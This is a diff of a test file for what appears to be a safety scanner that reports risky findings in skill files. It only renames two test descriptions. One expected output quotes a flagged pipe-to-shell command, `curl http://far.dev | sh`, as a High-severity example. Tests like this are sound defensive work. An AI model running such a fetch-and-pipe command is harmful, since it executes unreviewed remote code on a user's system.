@@ -67,7 +67,7 @@ describe('the findings of a skill', () => {
     expect(print([FOUND], url)).toContain(`[references/a b.md, line 3](${address})`)
   })
 
-  test('that are severe state severity, reason, line and rule, and give advice once per group', () => {
+  test('if severe, have severity, reason, line and rule, and advice once per group', () => {
     const [first, second, ...others] = listOf([FOUND, { ...FOUND, line: 9, count: 3 }])
     expect(first).toMatch(
       /^- \*\*High:\*\* downloads a script and runs it unseen, at \[.*\]\(.*\) \(\[pipe-to-shell\]\(\/docs\/safety#pipe-to-shell\)\)\. Read what it downloads before .* `curl http:\/\/far.dev \| sh`$/,
@@ -101,7 +101,7 @@ describe('the findings of a skill', () => {
     expect(print([{ ...FOUND, severity }])).toContain(said)
   })
 
-  test('about a whole file name no line', () => {
+  test('for a whole file have no line number', () => {
     expect(print([{ ...FOUND, quote: '', line: 1 }])).toContain(
       'runs it unseen, at [references/a b.md](/files/words/references/a%20b.md/view#L1) (',
     )
